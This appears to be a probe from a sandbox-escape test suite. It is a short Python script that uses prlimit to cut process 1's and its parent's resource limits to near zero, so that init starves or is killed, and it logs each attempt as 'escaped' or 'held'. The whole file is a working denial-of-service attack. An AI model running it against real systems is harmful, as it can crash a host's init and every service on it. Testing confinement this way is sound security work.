# Lowers the resource limits of process 1 until it cannot work: no descriptors, no memory, no processor time, which the kernel itself enforces with SIGKILL.
import os
import resource
import time
from attack import escaped, finish, held

for name, value in (("NOFILE", 1), ("AS", 4096), ("DATA", 0), ("STACK", 4096), ("CPU", 1), ("FSIZE", 0), ("SIGPENDING", 0), ("NPROC", 0)):
    for pid in {1, os.getppid()}:
        try:
            resource.prlimit(pid, getattr(resource, f"RLIMIT_{name}"), (value, value))
            escaped(f"{name} of process {pid} is {value}")
        except (OSError, ValueError) as error:
            held(f"{name}: {error}")
time.sleep(0.3)
finish()
